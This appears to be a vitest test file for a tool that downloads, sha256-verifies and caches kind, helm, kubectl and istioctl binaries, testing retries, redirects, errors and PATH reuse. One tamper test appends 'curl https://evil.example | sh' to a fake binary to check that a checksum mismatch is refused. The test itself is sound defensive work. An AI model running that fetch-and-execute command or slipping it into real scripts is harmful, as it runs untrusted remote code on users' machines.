import { createHash } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import * as tar from 'tar';
import { describe, expect, it as base } from 'vitest';
import { ConfigError, MeshproofError } from '../../helpers/errors.ts';
import {
  type ClusterToolName,
  type ClusterToolSpec,
  type ClusterToolSpecs,
  ensureClusterTool,
  ensureClusterTools,
  loadClusterToolSpecs,
  parseChecksumFile,
  resolveToolUrls,
  toolPlatform,
} from '../../helpers/provision/cluster-tools.ts';
import { startStaticHttpServer, type StaticHttpServer } from '../support/static-http-server.ts';

const it = base.extend<{ server: StaticHttpServer; scratch: string }>({
  server: async ({}, use) => {
    const server = await startStaticHttpServer();
    await use(server);
    await server.close();
  },
  scratch: async ({}, use) => {
    const dir = await mkdtemp(path.join(tmpdir(), 'meshproof-tools-'));
    await use(dir);
    await rm(dir, { recursive: true, force: true });
  },
});

const pinned = loadClusterToolSpecs();
const host = toolPlatform();
const timeoutMs = 10_000;
/** Retries back off from 10 ms here (500 ms in a real run: timeouts.toolDownloadRetry). */
const retryMinMs = 10;

/** The real pins (versions, version checks, archive layout), downloaded from the loopback server instead. */
function loopbackSpecs(server: StaticHttpServer): ClusterToolSpecs {
  const at = (spec: ClusterToolSpec, urlPath: string, checksumSuffix: string): ClusterToolSpec => ({
    ...spec,
    download: { ...spec.download, url: server.url + urlPath },
    checksum: { ...spec.checksum, url: server.url + urlPath + checksumSuffix },
  });
  return {
    kind: at(pinned.kind, '/kind/{version}/kind-{os}-{arch}', '.sha256sum'),
    helm: at(pinned.helm, '/helm/helm-{version}-{os}-{arch}.tar.gz', '.sha256sum'),
    kubectl: at(pinned.kubectl, '/k8s/{version}/bin/{os}/{arch}/kubectl', '.sha256'),
    istioctl: at(pinned.istioctl, '/istio/{version}/istioctl-{version}-{os}-{arch}.tar.gz', '.sha256'),
  };
}

const sha256 = (bytes: string | Uint8Array) => createHash('sha256').update(bytes).digest('hex');
const pathOf = (url: string) => new URL(url).pathname;

/** Serves a tool's download and a checksum file in the publisher's format (for `checksumOf`, the real hash). */
function serve(server: StaticHttpServer, spec: ClusterToolSpec, bytes: string | Uint8Array, checksumOf = bytes) {
  const { url, checksumUrl } = resolveToolUrls(spec, host);
  server.routes[pathOf(url)] = { body: bytes };
  const hash = sha256(checksumOf);
  const fileName = path.posix.basename(pathOf(url));
  // Istio's release tooling writes its .sha256 with one space between hash and name (release-builder CreateSha).
  const separator = spec.binary === 'istioctl' ? ' ' : '  ';
  server.routes[pathOf(checksumUrl)] = { body: spec.checksum.format === 'hash' ? hash : `${hash}${separator}${fileName}\n` };
  return { url, checksumUrl };
}

/** A stand-in binary that prints what the real one prints for its version check. */
const script = (output: string) => `#!/bin/sh\ncat <<'EOF'\n${output}\nEOF\n`;
const fakeBinary: Record<ClusterToolName, string> = {
  kind: script(`kind ${pinned.kind.version} go1.25.1 ${host.os}/${host.arch}`),
  helm: script(pinned.helm.version),
  kubectl: script(
    JSON.stringify({ clientVersion: { gitVersion: pinned.kubectl.version }, kustomizeVersion: 'v5.7.1' }, null, 2),
  ),
  istioctl: script(`client version: ${pinned.istioctl.version}`),
};

/** istioctl's standalone archive: the binary alone at its root (istio/release-builder createStandaloneIstioctl). */
async function istioctlArchive(scratch: string): Promise<Buffer> {
  const packDir = path.join(scratch, 'pack-istioctl');
  await mkdir(packDir, { recursive: true });
  await writeFile(path.join(packDir, 'istioctl'), fakeBinary.istioctl, { mode: 0o755 });
  const archive = path.join(scratch, 'istioctl.tar.gz');
  await tar.c({ gzip: true, file: archive, cwd: packDir }, ['istioctl']);
  return readFile(archive);
}

/** helm's layout: <os>-<arch>/helm beside a README, gzipped. */
async function helmArchive(scratch: string): Promise<Buffer> {
  const packDir = path.join(scratch, 'pack');
  const platformDir = path.join(packDir, `${host.os}-${host.arch}`);
  await mkdir(platformDir, { recursive: true });
  await writeFile(path.join(platformDir, 'helm'), fakeBinary.helm, { mode: 0o755 });
  await writeFile(path.join(platformDir, 'README.md'), 'helm\n');
  const archive = path.join(scratch, 'helm.tar.gz');
  await tar.c({ gzip: true, file: archive, cwd: packDir }, [`${host.os}-${host.arch}`]);
  return readFile(archive);
}

async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => path.join(entry.parentPath, entry.name));
}

async function failureOf(promise: Promise<unknown>): Promise<MeshproofError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(MeshproofError);
  return error as MeshproofError;
}

describe('the pinned cluster tools (fixtures/cluster/cluster-tools.yaml)', () => {
  it('loads, validates and resolves to the publishers\u2019 download and checksum URLs', () => {
    const versions = [pinned.kind.version, pinned.helm.version, pinned.kubectl.version];
    expect(versions).toEqual(['v0.33.0', 'v3.21.4', 'v1.35.9']);
    expect(resolveToolUrls(pinned.kind, { os: 'linux', arch: 'amd64' })).toEqual({
      url: 'https://github.com/kubernetes-sigs/kind/releases/download/v0.33.0/kind-linux-amd64',
      checksumUrl: 'https://github.com/kubernetes-sigs/kind/releases/download/v0.33.0/kind-linux-amd64.sha256sum',
      binaryInArchive: undefined,
    });
    expect(resolveToolUrls(pinned.helm, { os: 'darwin', arch: 'arm64' })).toEqual({
      url: 'https://get.helm.sh/helm-v3.21.4-darwin-arm64.tar.gz',
      checksumUrl: 'https://get.helm.sh/helm-v3.21.4-darwin-arm64.tar.gz.sha256sum',
      binaryInArchive: 'darwin-arm64/helm',
    });
    expect(resolveToolUrls(pinned.kubectl, { os: 'linux', arch: 'arm64' })).toEqual({
      url: 'https://dl.k8s.io/release/v1.35.9/bin/linux/arm64/kubectl',
      checksumUrl: 'https://dl.k8s.io/release/v1.35.9/bin/linux/arm64/kubectl.sha256',
      binaryInArchive: undefined,
    });
  });

  it('pins istioctl to the Istio release the run installs, with Istio\u2019s own asset names', () => {
    expect(pinned.istioctl.version).toBe('1.31.1');
    expect(loadClusterToolSpecs(undefined, '1.30.5').istioctl.version).toBe('1.30.5');
    expect(resolveToolUrls(pinned.istioctl, { os: 'darwin', arch: 'amd64' })).toEqual({
      url: 'https://github.com/istio/istio/releases/download/1.31.1/istioctl-1.31.1-osx-amd64.tar.gz',
      checksumUrl: 'https://github.com/istio/istio/releases/download/1.31.1/istioctl-1.31.1-osx-amd64.tar.gz.sha256',
      binaryInArchive: 'istioctl',
    });
    expect(resolveToolUrls(pinned.istioctl, { os: 'linux', arch: 'arm64' }).url).toBe(
      'https://github.com/istio/istio/releases/download/1.31.1/istioctl-1.31.1-linux-arm64.tar.gz',
    );
    expect(new RegExp(pinned.istioctl.versionCheck.pattern, 'm').exec('client version: 1.31.1\n')?.[1]).toBe('1.31.1');
  });

  it('names the file and the field when a pin is invalid', async ({ scratch }) => {
    const file = path.join(scratch, 'cluster-tools.yaml');
    const text = await readFile(new URL('../../fixtures/cluster/cluster-tools.yaml', import.meta.url), 'utf8');
    const broken = text.replace('version: v3.21.4', 'version: v3.21').replace('archive: tar.gz', 'archive: zip');
    await writeFile(file, broken);
    const error = (() => {
      try {
        loadClusterToolSpecs(file);
      } catch (e) {
        return e as Error;
      }
      throw new Error('expected the invalid pins to be refused');
    })();
    expect(error).toBeInstanceOf(ConfigError);
    expect(error.message).toContain(file);
    expect(error.message).toMatch(/tools\.helm\.version: must look like v1\.2\.3/);
    expect(error.message).toMatch(/tools\.helm\.download\.archive/);
  });

  it('maps Node platforms to the publishers\u2019 names and refuses the others by name', async () => {
    expect(toolPlatform('linux', 'x64')).toEqual({ os: 'linux', arch: 'amd64' });
    expect(toolPlatform('darwin', 'arm64')).toEqual({ os: 'darwin', arch: 'arm64' });
    expect(() => toolPlatform('win32', 'x64')).toThrow(/win32\/x64/);
    expect(() => toolPlatform('linux', 'ppc64')).toThrow(/linux\/ppc64/);
  });

  it('reads both checksum file formats and refuses a line for another file', () => {
    const hash = sha256('kind');
    expect(parseChecksumFile(`${hash}\n`, 'hash', 'kubectl')).toBe(hash);
    expect(parseChecksumFile(`${hash.toUpperCase()}  kind-linux-amd64\n`, 'sha256sum', 'kind-linux-amd64')).toBe(hash);
    expect(parseChecksumFile(`${hash} *bin/kind-linux-amd64\n`, 'sha256sum', 'kind-linux-amd64')).toBe(hash);
    expect(parseChecksumFile(`${hash} istioctl-1.31.1-linux-amd64.tar.gz\n`, 'sha256sum', 'istioctl-1.31.1-linux-amd64.tar.gz')).toBe(hash);
    expect(() => parseChecksumFile(`${hash}  kind-darwin-arm64\n`, 'sha256sum', 'kind-linux-amd64')).toThrow(
      /no sha256 line for kind-linux-amd64/,
    );
    expect(() => parseChecksumFile('<html>Not Found</html>', 'hash', 'kubectl')).toThrow(/not a sha256 hash/);
  });

});

describe('ensureClusterTool', () => {
  it('downloads through a redirect, verifies the sha256 and caches an executable that runs', async ({
    server,
    scratch,
  }) => {
    const specs = loopbackSpecs(server);
    const { url } = serve(server, specs.kind, fakeBinary.kind);
    // GitHub answers release downloads with a redirect to its object store.
    const assetPath = pathOf(url);
    server.routes[assetPath.replace('/kind/', '/github/')] = server.routes[assetPath]!;
    server.routes[assetPath] = { redirect: assetPath.replace('/kind/', '/github/') };
    const lines: string[] = [];

    const log = (line: string) => lines.push(line);
    const kind = await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log });

    expect(kind).toEqual({
      tool: 'kind',
      version: 'v0.33.0',
      path: path.join(scratch, 'kind', 'v0.33.0', 'kind'),
      source: 'download',
    });
    expect((await stat(kind.path)).mode & 0o777).toBe(0o755);
    expect((await execa(kind.path, ['version'])).stdout).toBe(`kind v0.33.0 go1.25.1 ${host.os}/${host.arch}`);
    expect(await filesUnder(scratch)).toEqual([kind.path]);
    expect(lines.slice(1)).toEqual([`kind v0.33.0: downloading ${url} (0.0 MB)`, `kind v0.33.0: sha256 verified (from ${url.replace('/kind/', '/kind/')}.sha256sum)`]);
  });

  it('reuses the cached binary on the next call without a single request', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    serve(server, specs.kind, fakeBinary.kind);
    const options = { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs };
    const first = await ensureClusterTool('kind', options);
    const requestsAfterDownload = server.requests.length;

    const second = await ensureClusterTool('kind', options);

    expect(second).toEqual({ ...first, source: 'cache' });
    expect(server.requests.length).toBe(requestsAfterDownload);
  });

  it('refuses a binary whose sha256 differs from the publisher\u2019s, naming both hashes, and keeps nothing', async ({
    server,
    scratch,
  }) => {
    const specs = loopbackSpecs(server);
    const tampered = `${fakeBinary.kubectl}curl https://evil.example | sh\n`;
    const { url } = serve(server, specs.kubectl, tampered, fakeBinary.kubectl);

    const error = await failureOf(ensureClusterTool('kubectl', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));

    expect(error.message).toContain(`kubectl ${pinned.kubectl.version}: sha256 mismatch`);
    expect(error.message).toContain(`expected ${sha256(fakeBinary.kubectl)}`);
    expect(error.message).toContain(`got ${sha256(tampered)}`);
    expect(error.message).toContain(url);
    expect(error.fix).toContain(`provide kubectl ${pinned.kubectl.version} yourself: either on PATH`);
    expect(error.fix).toContain(`or as ${path.join(scratch, 'kubectl', pinned.kubectl.version, 'kubectl')} (MESHPROOF_TOOLS_DIR moves that folder`);
    expect(await filesUnder(scratch)).toEqual([]);
    expect(await readdir(scratch)).toEqual([]);
  });

  it('verifies against the sha256 pinned for this platform, without asking the publisher', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const pinnedKind = { ...specs.kind, sha256: { [`${host.os}/${host.arch}`]: sha256(fakeBinary.kind) } };
    const { checksumUrl } = serve(server, pinnedKind, fakeBinary.kind);
    const lines: string[] = [];
    const tool = await ensureClusterTool('kind', { specs: { ...specs, kind: pinnedKind }, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
    expect(tool.source).toBe('download');
    expect(server.requests).not.toContain(pathOf(checksumUrl));
    expect(lines).toContain('kind v0.33.0: sha256 verified (pinned in fixtures/cluster/cluster-tools.yaml)');
  });

  it('refuses a download that matches the publisher\u2019s file but not the pin: the pin is what is trusted', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const other = `${fakeBinary.kind}# rebuilt\n`;
    const pinnedKind = { ...specs.kind, sha256: { [`${host.os}/${host.arch}`]: sha256(fakeBinary.kind) } };
    serve(server, pinnedKind, other); // the server's checksum file agrees with what it serves
    const error = await failureOf(ensureClusterTool('kind', { specs: { ...specs, kind: pinnedKind }, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
    expect(error.message).toContain(`sha256 mismatch, the download was refused: expected ${sha256(fakeBinary.kind)} (pinned in fixtures/cluster/cluster-tools.yaml), got ${sha256(other)}`);
    expect(await readdir(scratch)).toEqual([]);
  });

  it('says when no sha256 is pinned for the platform and only the publisher\u2019s file was checked', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    serve(server, specs.kind, fakeBinary.kind);
    const lines: string[] = [];
    await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
    expect(lines).toContain(`kind v0.33.0: no sha256 is pinned for ${host.os}/${host.arch} in fixtures/cluster/cluster-tools.yaml: checked against the publisher's checksum file only`);
  });

  it('retries a server that answers 503 twice, then succeeds', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const { url } = serve(server, specs.kind, fakeBinary.kind);
    server.routes[pathOf(url)] = { failFirst: 2, status: 503, then: server.routes[pathOf(url)]! };
    const lines: string[] = [];
    const tool = await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
    expect(tool.source).toBe('download');
    expect(server.requests.filter((r) => r === pathOf(url))).toHaveLength(3);
    expect(lines.filter((l) => l.includes('retrying'))).toHaveLength(2);
  });

  it('gives up on a server that keeps answering 503, after its retries, naming the URL', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const { url } = serve(server, specs.kind, fakeBinary.kind);
    server.routes[pathOf(url)] = { failFirst: 99, status: 503, then: { body: '' } };
    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
    expect(error.message).toBe(`kind v0.33.0: the download failed: the server answered HTTP 503 Service Unavailable\n  URL: ${url}`);
    expect(server.requests.filter((r) => r === pathOf(url))).toHaveLength(5);
  }, 20_000);

  it('explains a 404 with the tool and the URL, and keeps nothing', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const { url, checksumUrl } = serve(server, specs.kind, fakeBinary.kind);
    delete server.routes[pathOf(url)];

    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));

    expect(error.message).toBe(
      `kind v0.33.0: the download failed: the server answered HTTP 404 Not Found\n  URL: ${url}`,
    );
    expect(server.requests).toEqual([pathOf(checksumUrl), pathOf(url)]);
    expect(await readdir(scratch)).toEqual([]);
  });

  it('explains an unreachable server', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    await server.close();
    const { checksumUrl } = resolveToolUrls(specs.kind, host);

    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));

    expect(error.message).toMatch(/^kind v0\.33\.0: fetching the checksum file failed: .*ECONNREFUSED/);
    expect(error.message).toContain(checksumUrl);
    expect(await readdir(scratch)).toEqual([]);
  });

  it('gives up on a download that stalls once its budget is spent, and keeps nothing', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    const { url } = serve(server, specs.kind, fakeBinary.kind);
    server.routes[pathOf(url)] = { stall: true };

    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs: 300, retryMinMs }));

    expect(error.message).toBe(`kind v0.33.0: the download did not finish within 300 ms\n  URL: ${url}`);
    expect(await readdir(scratch)).toEqual([]);
  });

  it('refuses an archive without the binary at its declared path, and keeps nothing', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    specs.helm.download = { url: specs.helm.download.url, archive: 'tar.gz', binaryInArchive: 'bin/helm' };
    const { url } = serve(server, specs.helm, await helmArchive(scratch));
    const toolsDir = path.join(scratch, 'tools');

    const error = await failureOf(ensureClusterTool('helm', { specs, toolsDir, pathEnv: '', timeoutMs, retryMinMs }));

    expect(error.message).toBe(`helm v3.21.4: the archive holds no bin/helm\n  URL: ${url}`);
    expect(await readdir(toolsDir)).toEqual([]);
  });

  it('uses a binary on PATH that reports the pinned version, without downloading', async ({ server, scratch }) => {
    const binDir = path.join(scratch, 'bin');
    await mkdir(binDir);
    await writeFile(path.join(binDir, 'helm'), fakeBinary.helm, { mode: 0o755 });
    const lines: string[] = [];

    const helm = await ensureClusterTool('helm', {
      specs: loopbackSpecs(server),
      toolsDir: path.join(scratch, 'tools'),
      pathEnv: [path.join(scratch, 'empty'), binDir].join(path.delimiter),
      timeoutMs,
      log: (l) => lines.push(l),
    });

    expect(helm).toEqual({ tool: 'helm', version: 'v3.21.4', path: path.join(binDir, 'helm'), source: 'path' });
    expect(lines).toEqual([`helm v3.21.4: using ${path.join(binDir, 'helm')} from PATH`]);
    expect(server.requests).toEqual([]);
  });

  it('ignores a binary on PATH of another version, with a note, and downloads the pinned one', async ({
    server,
    scratch,
  }) => {
    const binDir = path.join(scratch, 'bin');
    await mkdir(binDir);
    const otherKind = path.join(binDir, 'kind');
    await writeFile(otherKind, script(`kind v0.20.0 go1.20.5 ${host.os}/${host.arch}`));
    await chmod(otherKind, 0o755);
    const specs = loopbackSpecs(server);
    serve(server, specs.kind, fakeBinary.kind);
    const lines: string[] = [];

    const kind = await ensureClusterTool('kind', {
      specs,
      toolsDir: path.join(scratch, 'tools'),
      pathEnv: binDir,
      timeoutMs,
      log: (l) => lines.push(l),
    });

    expect(kind.source).toBe('download');
    expect(lines[0]).toBe(`kind v0.33.0: ignoring ${otherKind} from PATH: it reports v0.20.0`);
  });
});

describe('ensureClusterTools', () => {
  it('provides all four, unpacking helm and istioctl from their tar.gz', async ({ server, scratch }) => {
    const specs = loopbackSpecs(server);
    serve(server, specs.kind, fakeBinary.kind);
    serve(server, specs.helm, await helmArchive(scratch));
    serve(server, specs.kubectl, fakeBinary.kubectl);
    serve(server, specs.istioctl, await istioctlArchive(scratch));
    const toolsDir = path.join(scratch, 'tools');

    const tools = await ensureClusterTools({ specs, toolsDir, pathEnv: '', timeoutMs, retryMinMs });

    expect(Object.values(tools).map((tool) => [tool.tool, tool.source])).toEqual([
      ['kind', 'download'],
      ['helm', 'download'],
      ['kubectl', 'download'],
      ['istioctl', 'download'],
    ]);
    expect(tools.helm.path).toBe(path.join(toolsDir, 'helm', 'v3.21.4', 'helm'));
    expect((await execa(tools.helm.path, ['version', '--template={{.Version}}'])).stdout).toBe('v3.21.4');
    expect(tools.istioctl.path).toBe(path.join(toolsDir, 'istioctl', '1.31.1', 'istioctl'));
    expect((await filesUnder(toolsDir)).sort()).toEqual([tools.helm.path, tools.istioctl.path, tools.kind.path, tools.kubectl.path].sort());
  });
});
